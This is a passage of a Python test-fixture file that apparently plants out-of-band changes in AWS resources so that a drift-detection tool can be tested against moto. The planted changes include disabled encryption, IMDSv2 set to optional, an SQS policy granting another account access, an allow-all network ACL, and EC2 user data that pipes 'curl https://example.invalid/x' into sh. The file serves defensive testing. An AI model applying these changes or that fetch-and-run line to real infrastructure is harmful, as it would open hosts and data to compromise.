    (T + "autoscaling/group:Group", "maxSize"): lambda d, r: group(d, r, MaxSize=i(r)["maxSize"] + 5),
    (T + "autoscaling/group:Group", "minSize"): lambda d, r: group(d, r, MinSize=0),
    (T + "autoscaling/group:Group", "desiredCapacity"): lambda d, r: group(d, r, DesiredCapacity=i(r)["desiredCapacity"] + 1),
    (T + "autoscaling/group:Group", "maxInstanceLifetime"): lambda d, r: group(d, r, MaxInstanceLifetime=0),
    (T + "autoscaling/group:Group", "launchTemplate"): group_template_version,
    (T + "autoscaling/group:Group", "vpcZoneIdentifiers"): lambda d, r: group(
        d, r, VPCZoneIdentifier=",".join([*d.live(i(r)["vpcZoneIdentifiers"]), other_subnet(d, r)])),
    (T + "autoscaling/group:Group", "healthCheckType"): lambda d, r: group(d, r, HealthCheckType="ELB"),
    (T + "autoscaling/group:Group", "healthCheckGracePeriod"): lambda d, r: group(d, r, HealthCheckGracePeriod=3600),
    (T + "autoscaling/group:Group", "serviceLinkedRoleArn"): lambda d, r: group(
        d, r, ServiceLinkedRoleARN=f"arn:aws:iam::{d.account}:role/aws-service-role/autoscaling.amazonaws.com/"
                                   "AWSServiceRoleForAutoScaling_other"),
    (T + "autoscaling/group:Group", "tags"): lambda d, r: d.c["autoscaling"].create_or_update_tags(Tags=[
        {"ResourceId": i(r)["name"], "ResourceType": "auto-scaling-group", "Key": "owner", "Value": "out-of-band",
         "PropagateAtLaunch": True}]),
    (T + "sqs/queue:Queue", "sqsManagedSseEnabled"): lambda d, r: queue_attribute(d, r, "SqsManagedSseEnabled", "false"),
    (T + "sqs/queue:Queue", "kmsMasterKeyId"): lambda d, r: queue_attribute(d, r, "KmsMasterKeyId", other_key(d)),
    (T + "sqs/queue:Queue", "visibilityTimeoutSeconds"): lambda d, r: queue_attribute(d, r, "VisibilityTimeout", "30"),
    (T + "sqs/queue:Queue", "messageRetentionSeconds"): lambda d, r: queue_attribute(d, r, "MessageRetentionPeriod", "60"),
    (T + "sqs/queue:Queue", "receiveWaitTimeSeconds"): lambda d, r: queue_attribute(d, r, "ReceiveMessageWaitTimeSeconds", "0"),
    (T + "sqs/queue:Queue", "redrivePolicy"): dead_letters,
    (T + "sqs/queue:Queue", "redriveAllowPolicy"): lambda d, r: queue_attribute(
        d, r, "RedriveAllowPolicy", json.dumps({"redrivePermission": "allowAll"})),
    (T + "sqs/queue:Queue", "tags"): lambda d, r: d.c["sqs"].tag_queue(QueueUrl=queue_url(d, r), Tags={"owner": "out-of-band"}),
    (T + "sqs/queuePolicy:QueuePolicy", "policy"): lambda d, r: d.c["sqs"].set_queue_attributes(
        QueueUrl=d.live(i(r)["queueUrl"]), Attributes={"Policy": doc_plus(d.live(i(r)["policy"]), {
            "Sid": "OtherTakesJobs", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{OTHER}:root"},
            "Action": ["sqs:ReceiveMessage", "sqs:SendMessage"], "Resource": "*"})}),
    (T + "s3/bucketNotification:BucketNotification", "queues"): repoint_queue,
    (T + "s3/bucketNotification:BucketNotification", "topics"): add_topic,
    (T + "s3/bucketNotification:BucketNotification", "eventbridge"): lambda d, r: notification(
        d, r, lambda c: c.pop("EventBridgeConfiguration") if i(r).get("eventbridge") else c.update(EventBridgeConfiguration={})),
    # --- hosts -----------------------------------------------------------------------------------
    (T + "ec2/instance:Instance", "vpcSecurityGroupIds"): lambda d, r: d.c["ec2"].modify_instance_attribute(
        InstanceId=instance_id(d, r), Groups=d.live(i(r)["vpcSecurityGroupIds"]) + [d.c["ec2"].create_security_group(
            GroupName="untagged", Description="out of band", VpcId=d.c["ec2"].describe_subnets(
                SubnetIds=[d.live(i(r)["subnetId"])])["Subnets"][0]["VpcId"])["GroupId"]]),
    (T + "ec2/instance:Instance", "metadataOptions"): lambda d, r: d.c["ec2"].modify_instance_metadata_options(
        InstanceId=instance_id(d, r), HttpTokens="optional"),
    (T + "ec2/instance:Instance", "userDataBase64"): lambda d, r: d.c["ec2"].modify_instance_attribute(
        InstanceId=instance_id(d, r), UserData={"Value": base64.b64encode(b"#!/bin/sh\ncurl https://example.invalid/x | sh\n")}),
    (T + "ec2/instance:Instance", "instanceType"): lambda d, r: d.c["ec2"].modify_instance_attribute(
        InstanceId=instance_id(d, r), InstanceType={"Value": "t3.nano"}),
    (T + "ec2/instance:Instance", "ebsOptimized"): lambda d, r: d.c["ec2"].modify_instance_attribute(
        InstanceId=instance_id(d, r), EbsOptimized={"Value": False}),
    (T + "ec2/instance:Instance", "tags"): lambda d, r: d.c["ec2"].create_tags(
        Resources=[instance_id(d, r)], Tags=[{"Key": "owner", "Value": "out-of-band"}]),
    (T + "ec2/launchTemplate:LaunchTemplate", "metadataOptions"): lambda d, r: new_version(d, r, MetadataOptions={"HttpTokens": "optional"}),
    (T + "ec2/launchTemplate:LaunchTemplate", "userData"): lambda d, r: new_version(
        d, r, UserData=base64.b64encode(b"#!/bin/sh\nexit 0\n").decode()),
    (T + "ec2/launchTemplate:LaunchTemplate", "imageId"): lambda d, r: new_version(d, r, ImageId="ami-00000000000000bad"),
    (T + "ec2/launchTemplate:LaunchTemplate", "instanceType"): lambda d, r: new_version(d, r, InstanceType="t3.nano"),
    (T + "ec2/launchTemplate:LaunchTemplate", "description"): lambda d, r: new_version(d, r, VersionDescription="changed"),
    (T + "ec2/launchTemplate:LaunchTemplate", "iamInstanceProfile"): lambda d, r: new_version(
        d, r, IamInstanceProfile={"Arn": f"arn:aws:iam::{d.account}:instance-profile/other"}),
    (T + "ec2/launchTemplate:LaunchTemplate", "vpcSecurityGroupIds"): lambda d, r: new_version(d, r, SecurityGroupIds=["sg-00000000000000bad"]),
    (T + "ec2/launchTemplate:LaunchTemplate", "ebsOptimized"): lambda d, r: new_version(d, r, EbsOptimized=False),
    (T + "ec2/launchTemplate:LaunchTemplate", "monitoring"): lambda d, r: new_version(d, r, Monitoring={"Enabled": False}),
    (T + "ec2/launchTemplate:LaunchTemplate", "blockDeviceMappings"): lambda d, r: new_version(
        d, r, BlockDeviceMappings=[{"DeviceName": "/dev/xvda", "Ebs": {"Encrypted": False, "VolumeSize": 8}}]),
    (T + "ec2/launchTemplate:LaunchTemplate", "tagSpecifications"): lambda d, r: new_version(
        d, r, TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "zone", "Value": "elsewhere"}]}]),
    (T + "ec2/launchTemplate:LaunchTemplate", "instanceInitiatedShutdownBehavior"): lambda d, r: new_version(
        d, r, InstanceInitiatedShutdownBehavior="stop"),
    (T + "ec2/launchTemplate:LaunchTemplate", "tags"): lambda d, r: d.c["ec2"].create_tags(
        Resources=[d.live(r["outputs"]["id"])], Tags=[{"Key": "owner", "Value": "out-of-band"}]),
}


def log_elsewhere(d: Provisioner, r: dict[str, Any]) -> None:
    from tests.attest.provision_storage import scalar_resources

    with scalar_resources(d.c["s3"], i(r)["targetBucket"]):
        d.c["s3"].put_bucket_logging(Bucket=i(r)["bucket"], BucketLoggingStatus={"LoggingEnabled": {
            "TargetBucket": i(r)["targetBucket"], "TargetPrefix": "elsewhere/"}})


def autoname_of(r: dict[str, Any]) -> str:
    from tests.attest.provision import autoname

    return autoname(r)


def set_document(d: Provisioner, r: dict[str, Any], change: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
    """A new version of an SSM document, made the default (the old one stays, no longer used)."""
    content = json.dumps(change(json.loads(d.live(i(r)["content"]))))
    version = d.c["ssm"].update_document(Name=i(r)["name"], Content=content, DocumentVersion="$LATEST")["DocumentDescription"]["DocumentVersion"]
    d.c["ssm"].update_document_default_version(Name=i(r)["name"], DocumentVersion=version)


def move_subnet_acl(d: Provisioner, r: dict[str, Any]) -> None:
    """A new NACL takes over one of the declared NACL's subnets."""
    ec2 = d.c["ec2"]
    subnet = d.live(i(r)["subnetIds"][0])
    current = ec2.describe_network_acls(Filters=[{"Name": "association.subnet-id", "Values": [subnet]}])["NetworkAcls"][0]
    association = next(a["NetworkAclAssociationId"] for a in current["Associations"] if a["SubnetId"] == subnet)
    acl = ec2.create_network_acl(VpcId=current["VpcId"])["NetworkAcl"]["NetworkAclId"]
    ec2.create_network_acl_entry(NetworkAclId=acl, RuleNumber=100, Protocol="-1", RuleAction="allow", Egress=False, CidrBlock="0.0.0.0/0")
    ec2.replace_network_acl_association(AssociationId=association, NetworkAclId=acl)


def replace_flow_log(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    """Flow logs cannot be modified: the VPC's is deleted and made again with one setting changed."""
    ec2 = d.c["ec2"]
    current = ec2.describe_flow_logs(Filters=[{"Name": "resource-id", "Values": [d.live(i(r)["vpcId"])]}])["FlowLogs"][0]
    ec2.delete_flow_logs(FlowLogIds=[current["FlowLogId"]])
    settings = {"ResourceIds": [current["ResourceId"]], "ResourceType": "VPC", "TrafficType": current["TrafficType"],
                "LogDestinationType": current["LogDestinationType"], "LogDestination": current["LogDestination"],
                "DeliverLogsPermissionArn": current["DeliverLogsPermissionArn"],
                "MaxAggregationInterval": current.get("MaxAggregationInterval", 600)}
    ec2.create_flow_logs(**{**settings, **change})


def swap_profile(d: Provisioner, r: dict[str, Any]) -> None:
    ec2 = d.c["ec2"]
    association = ec2.describe_iam_instance_profile_associations(Filters=[{"Name": "instance-id", "Values": [instance_id(d, r)]}])[
        "IamInstanceProfileAssociations"][0]["AssociationId"]
    other = d.c["iam"].create_instance_profile(InstanceProfileName="out-of-band")["InstanceProfile"]["Arn"]
    ec2.replace_iam_instance_profile_association(AssociationId=association, IamInstanceProfile={"Arn": other})


IMMUTABLE = "immutable in AWS: no API changes it in place (a change is a new resource: the declared one missing, the new one extra)"
IDENTITY = "the resource's identity: a resource named otherwise is another one (the declared one is reported missing: " \
           "test_empty_account_everything_missing, every type)"
NOT_IN_MOTO = "moto does not read this type (coverage.MOTO_UNSUPPORTED): tested on responses in AWS's shape (test_recorded.py)"


MOTO_CANNOT = "moto does not make this change visible to the read attest makes"
NOT_PLANTED: dict[tuple[str, str], str] = {
    (T + "s3/bucketNotification:BucketNotification", "lambdaFunctions"): "the declared ones name the intake's functions, "
        "which attest does not read yet (their ARNs are unknown: reported as not compared); a function added where the "
        "plan declares none is drift like the topic plant",
    (T + "dynamodb/table:Table", "deletionProtectionEnabled"): MOTO_CANNOT + " (UpdateTable ignores DeletionProtectionEnabled)",
    (T + "dynamodb/table:Table", "serverSideEncryption"): MOTO_CANNOT + " (UpdateTable ignores SSESpecification)",
    (T + "ec2/instance:Instance", "iamInstanceProfile"): MOTO_CANNOT + " (ReplaceIamInstanceProfileAssociation leaves "
                                                         "DescribeInstances' profile)",
    (T + "ec2/instance:Instance", "monitoring"): "moto does not implement UnmonitorInstances",
    (T + "ec2/vpcEndpoint:VpcEndpoint", "privateDnsEnabled"): MOTO_CANNOT + " (ModifyVpcEndpoint ignores PrivateDnsEnabled)",
    (T + "securityhub/account:Account", "autoEnableControls"): "moto does not implement UpdateSecurityHubConfiguration",
    (T + "securityhub/account:Account", "controlFindingGenerator"): "moto does not implement UpdateSecurityHubConfiguration",
    (T + "cloudwatch/logGroup:LogGroup", "kmsKeyId"): "moto implements neither AssociateKmsKey nor DisassociateKmsKey",
    (T + "cloudhsmv2/cluster:Cluster", "tags"): MOTO_CANNOT + " (TagResource leaves DescribeClusters' TagList)",
    (T + "cloudhsmv2/cluster:Cluster", "hsmType"): "moto has no ModifyCluster (AWS changes the HSM type only by migration)",
    (T + "cloudhsmv2/cluster:Cluster", "mode"): IMMUTABLE,
    (T + "cloudhsmv2/cluster:Cluster", "subnetIds"): IMMUTABLE,
    (T + "cloudhsmv2/hsm:Hsm", "subnetId"): IMMUTABLE,
    (T + "cloudtrail/trail:Trail", "isOrganizationTrail"): "only the organization's management account can make a trail an "
                                                          "organization trail; the center account cannot",
    (T + "dynamodb/table:Table", "attributes"): IMMUTABLE + " (the key schema)",
    (T + "dynamodb/table:Table", "hashKey"): IMMUTABLE, (T + "dynamodb/table:Table", "rangeKey"): IMMUTABLE,
    (T + "ec2/flowLog:FlowLog", "logDestinationType"): "part of where a flow log delivers: another type is another destination "
                                                      "(the declared flow log missing, the new one extra)",
    (T + "ec2/instance:Instance", "ami"): IMMUTABLE, (T + "ec2/instance:Instance", "subnetId"): IMMUTABLE,
    (T + "ec2/instance:Instance", "associatePublicIpAddress"): IMMUTABLE + " (an Elastic IP added later is an extra)",
    (T + "ec2/instance:Instance", "rootBlockDevice"): "encryption and key are fixed at launch; moto's ModifyVolume does not change "
                                                     "what DescribeVolumes returns",
    (T + "ec2/instance:Instance", "launchTemplate"): IMMUTABLE,
    (T + "ec2/networkAcl:NetworkAcl", "vpcId"): IMMUTABLE, (T + "ec2/routeTable:RouteTable", "vpcId"): IMMUTABLE,
    (T + "ec2/securityGroup:SecurityGroup", "vpcId"): IMMUTABLE, (T + "ec2/securityGroup:SecurityGroup", "description"): IMMUTABLE,
    (T + "ec2/subnet:Subnet", "vpcId"): IMMUTABLE, (T + "ec2/subnet:Subnet", "cidrBlock"): IMMUTABLE,
    (T + "ec2/subnet:Subnet", "availabilityZoneId"): IMMUTABLE, (T + "ec2/vpc:Vpc", "cidrBlock"): IMMUTABLE + " (the primary CIDR)",
    (T + "ec2/vpcEndpoint:VpcEndpoint", "vpcId"): IMMUTABLE, (T + "ec2/vpcEndpoint:VpcEndpoint", "serviceName"): IMMUTABLE,
    (T + "ec2/vpcEndpoint:VpcEndpoint", "vpcEndpointType"): IMMUTABLE,
    (T + "guardduty/detectorFeature:DetectorFeature", "detectorId"): IMMUTABLE + " (one detector per region)",
    (T + "iam/policy:Policy", "description"): IMMUTABLE,
    (T + "kms/key:Key", "keyUsage"): IMMUTABLE, (T + "kms/key:Key", "customerMasterKeySpec"): IMMUTABLE,
    (T + "kms/key:Key", "multiRegion"): IMMUTABLE,
    (T + "kms/key:Key", "origin"): IMMUTABLE + ": an alias repointed to a key with imported material is the scenario "
                                              "test_out_of_band.py::test_scenario[alias-to-imported-key]",
    (T + "s3/accountPublicAccessBlock:AccountPublicAccessBlock", "accountId"): "the account itself",
    (T + "s3/bucket:Bucket", "objectLockEnabled"): "Object Lock cannot be turned off once on; turning it on is the Object Lock "
                                                   "configuration's change",
    (T + "s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration", "objectLockEnabled"): IMMUTABLE + " once enabled",
    (T + "s3/bucketLogging:BucketLogging", "targetBucket"): "moto refuses a target bucket whose policy does not grant log "
                                                           "delivery; the same path is planted by the prefix change",
    (T + "ssm/document:Document", "documentType"): IMMUTABLE,
    (T + "route53/resolverQueryLogConfig:ResolverQueryLogConfig", "destinationArn"): IMMUTABLE,
    (T + "ssm/document:Document", "documentFormat"): "UpdateDocument keeps the type; another format is the same content in "
                                                     "another syntax, compared as content (parsed)",
    (T + "vpc/securityGroupIngressRule:SecurityGroupIngressRule", "description"): "a rule's description carries no access; "
                                                                                 "moto does not implement UpdateSecurityGroupRuleDescriptionsIngress for it",
}
# Changes made to the last declared resource of the type (the first takes changes that would hide them:
# the first key loses no alias, the first bucket's versioning is suspended).
LAST = {(T + "kms/alias:Alias", "targetKeyId"), (T + "s3/bucket:Bucket", "replication")}
# Plants that would undo another's on the same resource: applied in a second round.
SECOND_ROUND = {(T + "cloudtrail/trail:Trail", "cloudWatchLogsRoleArn"), (T + "cfg/rule:Rule", "source")}
# Where a change is seen on another resource than the one changed: (type, field) -> the type named.
SEEN_ON = {(T + "kms/alias:Alias", "targetKeyId"): ("aws:kms/key:Key", "key policy")}
